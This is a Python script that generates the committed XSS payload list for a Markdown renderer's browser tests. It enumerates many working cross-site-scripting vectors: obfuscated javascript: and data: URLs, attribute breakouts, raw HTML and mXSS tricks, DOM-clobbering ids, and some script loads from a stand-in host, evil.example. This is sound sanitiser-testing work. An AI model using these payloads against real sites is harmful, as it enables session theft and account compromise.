#!/usr/bin/env python3
"""Writes tests/xss/payloads.json: the XSS payloads the browser suite renders.

Kept as a generator so the scheme/context combinations stay systematic; the
JSON it writes is committed and is what the tests read. Every payload, if it
ran, calls alert()/confirm()/prompt()/print() or sets window.__xss, navigates,
or leaves an inline handler / script URL / active element in the DOM, all of
which the trap in xss.test.mjs records.

Fields: id, class (OWASP cheat-sheet class or Markdown vector), from
(markdown | text | html = excerpt of an HTML fragment), input, modes (lists of
extra CLI flags; every mode is rendered as a fragment, the first mode also as
a full page). --no-gfm turns GFM off, tagfilter included; --compat is the
cmark-compatible body used by the spec tests.
"""
import json
import os

P = []
DEFAULT = [[]]
RAW_MODES = [[], ["--no-gfm"], ["--compat"], ["--no-structure", "--toc", "--markup-numbers", "--no-footnotes"]]


def add(id_, cls, inp, frm="markdown", modes=DEFAULT):
    P.append({"id": id_, "class": cls, "from": frm, "input": inp, "modes": modes})


# --- script URL spellings, in every URL-carrying Markdown context ------------------
schemes = {
    "plain": "javascript:alert(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "upper": "JAVASCRIPT:alert(1)",
    "entity-dec": "&#106;avascript:alert(1)",
    "entity-dec-padded": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "entity-hex": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "entity-colon": "javascript&colon;alert(1)",
    "tab-split": "java\tscript:alert(1)",
    "entity-tab": "jav&#x09;ascript:alert(1)",
    "entity-newline": "jav&#x0A;ascript:alert(1)",
    "entity-cr": "jav&#x0D;ascript:alert(1)",
    "leading-control": "&#14;javascript:alert(1)",
    "percent": "javascript%3Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
}
for name, url in schemes.items():
    add(f"md-link-{name}", "markdown link with script URL", f"Đọc [bài này]({url.replace(' ', '%20')}) nhé.")
    add(f"md-image-{name}", "markdown image with script URL", f"![ảnh]({url})")
    add(f"md-refdef-{name}", "reference definition with script URL", f"Xem [tin][r] và ![hình][r].\n\n[r]: {url}")
for name in ("plain", "mixed-case", "upper", "vbscript", "data-html"):
    add(f"md-autolink-{name}", "autolink with script URL", f"Liên kết <{schemes[name]}> ở đây.")
add("md-link-angle", "markdown link with script URL", "[a](<javascript:alert(1)>)")
add("md-link-space-prefix", "markdown link with script URL", "[a]( javascript:alert(1) )")
add("md-link-nested-image", "markdown link with script URL", "[![x](javascript:alert(1))](javascript:alert(2))")
add("md-link-backslash", "markdown link with script URL", "[a](javascript\\:alert(1))")
add("md-link-protocol-relative", "protocol resolution bypass", "[a](//evil.example/x.js) ![b](//evil.example/x.svg)")
add("md-gfm-autolink-www-quote", "GFM extended autolink breakout", "www.evil.example/\"onmouseover=\"alert(1)\" x")
add("md-gfm-autolink-email", "GFM extended autolink breakout", "a\"onmouseover=alert(1)\"@b.vn and http://a.vn/<script>alert(1)</script>")
add("md-bare-js", "GFM extended autolink breakout", "javascript:alert(1) và www.javascript:alert(1)")

# --- attribute breakouts through titles, alt text, info strings, labels ------------
add("md-title-dquote", "attribute breakout (title)", '[a](/u "x\\" onmouseover=\\"alert(1)")')
add("md-title-squote", "attribute breakout (title)", "[a](/u 'x\\' onmouseover=alert(1) y=\\'')")
add("md-title-paren", "attribute breakout (title)", '[a](/u (x" onmouseover="alert(1)))')
add("md-title-entity", "attribute breakout (title)", '[a](/u "x&quot; onmouseover=&quot;alert(1)")')
add("md-image-title", "attribute breakout (title)", '![a](x.png "t\\" onerror=\\"alert(1)")')
add("md-alt-quote", "attribute breakout (alt)", '![a" onerror="alert(1)](x.png)')
add("md-alt-html", "attribute breakout (alt)", "![<img src=x onerror=alert(1)>](x.png)")
add("md-alt-entity", "attribute breakout (alt)", "![a&quot; onerror=&quot;alert(1)&#34;](x.png)")
add("md-alt-backtick", "attribute breakout (alt)", "![a` onerror=`alert(1)](x.png)")
add("md-url-quote", "attribute breakout (href)", '[a](/u"onmouseover="alert(1))')
add("md-url-angle-quote", "attribute breakout (href)", '[a](</u" onmouseover="alert(1)>)')
add("md-code-info", "attribute breakout (code info string)", '```"><script>alert(1)</script>\nx\n```')
add("md-code-info-attr", "attribute breakout (code info string)", "```js onmouseover=alert(1) x\nx\n```")
add("md-footnote-label", "attribute breakout (footnote label)", 'Chú thích[^a"onmouseover="alert(1)].\n\n[^a"onmouseover="alert(1)]: ghi chú')
add("md-footnote-html", "attribute breakout (footnote label)", "A[^<img src=x onerror=alert(1)>].\n\n[^<img src=x onerror=alert(1)>]: b")
add("md-heading-attr", "attribute breakout (heading id)", '## Tin "onmouseover="alert(1)\n\n## <img src=x onerror=alert(1)>')
add("md-table-cell", "raw HTML in a table", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |")
add("md-task", "raw HTML in a task list", "- [ ] <svg onload=alert(1)>\n- [x] <a href=javascript:alert(1)>x</a>")

# --- raw HTML blocks and inline HTML (default, no-gfm (no tagfilter), compat) -----
raw = {
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "script-extra-bracket": "<<SCRIPT>alert(1);//<</SCRIPT>",
    "script-no-close": "<SCRIPT SRC=//evil.example/x.js?< B >",
    "script-slash": "<SCRIPT/XSS SRC=\"//evil.example/x.js\"></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-noquote-grave": "<img src=`x` onerror=`alert(1)`>",
    "img-onerror-entity": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "img-malformed": "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "img-half-open": "<IMG SRC=\"javascript:alert(1)\"",
    "img-js-src": "<IMG SRC=javascript:alert(1)>",
    "img-dynsrc": "<IMG DYNSRC=\"javascript:alert(1)\"> <IMG LOWSRC=\"javascript:alert(1)\">",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-set-href": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg-xlink": "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "math-xlink": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "body-onload": "<BODY ONLOAD=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe-js": "<iframe src=\"javascript:alert(1)\"></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "object-data": "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "embed-src": "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "meta-refresh": "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "meta-refresh-data": "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
    "base-href": "<BASE HREF=\"javascript:alert(1);//\"><a href=x>x</a>",
    "form-action": "<form action=javascript:alert(1)><input type=submit id=s></form>",
    "button-formaction": "<button formaction=javascript:alert(1)>x</button>",
    "link-stylesheet": "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "style-import": "<STYLE>@import'//evil.example/x.css';</STYLE>",
    "style-attr": "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
    "table-background": "<TABLE BACKGROUND=\"javascript:alert(1)\"><tr><td>x</td></tr></TABLE>",
    "a-target": "<a href=\"https://evil.example\" target=\"_blank\">mở</a>",
    "a-js": "<a href=\"javascript:alert(1)\">x</a>",
    "a-onclick": "<a href=# onclick=alert(1)>x</a>",
    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
    "cdata-breakout": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "pi-breakout": "<?xml x=\"?><img src=x onerror=alert(1)>\"?>",
    "noscript-mxss": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title-breakout": "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "xmp-breakout": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "null-byte": "<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)>",
    "es6-template": "<img src=x onerror=alert`1`>",
    "id-clobber-raw": "<img name=cookie src=x><form id=forms></form><a id=defaultView></a>",
}
for name, html in raw.items():
    add(f"raw-block-{name}", "raw HTML block", html, modes=RAW_MODES)
    add(f"raw-inline-{name}", "inline HTML", f"Đoạn văn {html} tiếp theo.", modes=[[], ["--no-gfm"]])

# --- heading ids that would clobber document / window properties ------------------
for name in ("cookie", "domain", "location", "body", "forms", "images", "getElementById",
             "createElement", "defaultView", "write", "head", "__proto__", "constructor", "alert"):
    add(f"heading-id-{name}", "heading id clobbering", f"# Tiêu đề\n\n## {name}\n\nA.\n\n## {name}\n",
        modes=[[], ["--toc"]])

# --- front matter fields --------------------------------------------------------
fm_payload = '"\\"><script>alert(1)</script><img src=x onerror=alert(1)>"'
for field in ("title", "kicker", "sapo", "category", "description", "dateline", "byline"):
    add(f"fm-{field}", "front matter field", f"---\n{field}: {fm_payload}\n---\n\nBody.\n", modes=[[], ["--toc"]])
for name, url in (("plain", "javascript:alert(1)"), ("tab", "java\\tscript:alert(1)"),
                  ("entity", "&#106;avascript:alert(1)"), ("data", "data:text/html,<script>alert(1)</script>"),
                  ("quote", "https://a.vn/\\\" onerror=\\\"alert(1)")):
    add(f"fm-image-{name}", "front matter URL", f"---\ntitle: T\nimage: \"{url}\"\n---\n\nBody.\n")
    add(f"fm-cover-{name}", "front matter URL",
        f"---\ntitle: T\ncover:\n  src: \"{url}\"\n  alt: {fm_payload}\n  caption: {fm_payload}\n---\n\nBody.\n")
    add(f"fm-canonical-{name}", "front matter URL", f"---\ntitle: T\ncanonical_url: \"{url}\"\n---\n\nBody.\n")
    add(f"fm-author-url-{name}", "front matter URL",
        f"---\ntitle: T\nauthors:\n  - name: {fm_payload}\n    url: \"{url}\"\n---\n\nBody.\n")
    add(f"fm-related-url-{name}", "front matter URL",
        f"---\ntitle: T\nrelated:\n  - heading: {fm_payload}\n    items:\n      - title: {fm_payload}\n"
        f"        url: \"{url}\"\n        summary: {fm_payload}\n---\n\nBody.\n")
add("fm-tags", "front matter field", f"---\ntitle: T\ntags: [{fm_payload}, \"</script>\"]\n---\n\nBody.\n")
add("fm-jsonld-breakout", "front matter field",
    "---\ntitle: \"</script><script>alert(1)</script>\"\ndescription: \"<!--<script>\"\n---\n\nBody.\n")
add("fm-series", "front matter field", f"---\ntitle: T\nseries:\n  name: {fm_payload}\n  part: 3\n---\n\nBody.\n")

# --- text import ------------------------------------------------------------------
TEXT = "Kinh tế\nTiêu đề bài viết <script>alert(1)</script>\n\nSa-pô <img src=x onerror=alert(1)> của bài.\n\n"
add("text-script", "text import", TEXT + "Nội dung <svg onload=alert(1)> đoạn một.\n\nTheo <a href=javascript:alert(1)>x</a>\n", "text")
add("text-caption", "text import", TEXT + "Ảnh: <img src=x onerror=alert(1)>\n\nNội dung.\n", "text")
add("text-related", "text import",
    TEXT + "Nội dung.\n\nTin liên quan\n• <a href=\"javascript:alert(1)\">Bài một</a>\n• javascript:alert(1)\n", "text")
add("text-url-lines", "text import", TEXT + "javascript:alert(1)\n\nhttps://a.vn/\"onmouseover=\"alert(1)\n", "text")
add("text-interview", "text import",
    TEXT + "• Câu hỏi <iframe src=javascript:alert(1)>?\n- Trả lời </p><script>alert(1)</script>\n", "text")
add("text-byline", "text import", TEXT + "Nội dung.\n\nBài, ảnh: <b onmouseover=alert(1)>Huy</b>\n", "text")
add("text-markdownish", "text import", TEXT + "[a](javascript:alert(1)) ![b](javascript:alert(1))\n", "text")

# --- excerpts of HTML fragments -------------------------------------------------------
for name in ("img-onerror", "a-js", "svg-script", "noscript-mxss", "comment-breakout", "a-onclick",
             "script-case", "iframe-srcdoc", "math-mglyph", "a-target"):
    add(f"excerpt-{name}", "excerpt of HTML", f"<p>Đồng chí An {raw[name]} phát biểu.</p>", "html")
add("excerpt-entity-js", "excerpt of HTML", "<p><a href=\"&#106;avascript:alert(1)\">x</a> <a href=\"java&#9;script:alert(1)\">y</a></p>", "html")
add("excerpt-quote-breakout", "excerpt of HTML", "<p><a href='/u\" onmouseover=\"alert(1)'>x</a></p>", "html")

# --- entity / encoding oddities in text ------------------------------------------------
add("text-entities", "encoded text", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;")
add("text-utf7", "encoded text", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
add("text-fullwidth", "encoded text", "＜script＞alert(1)＜/script＞ ＜img src=x onerror=alert(1)＞")
add("text-invalid-utf8-bracket", "encoded text", "\ufffd\u202e<script>alert(1)</script>")

out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "payloads.json")
ids = [p["id"] for p in P]
assert len(ids) == len(set(ids)), "duplicate ids"
with open(out, "w", encoding="utf-8") as f:
    json.dump({"about": "XSS payloads for tests/xss/xss.test.mjs; generated by gen_payloads.py (edit there)",
               "count": len(P), "payloads": P}, f, ensure_ascii=False, indent=1)
    f.write("\n")
print(f"{len(P)} payloads -> {out}")
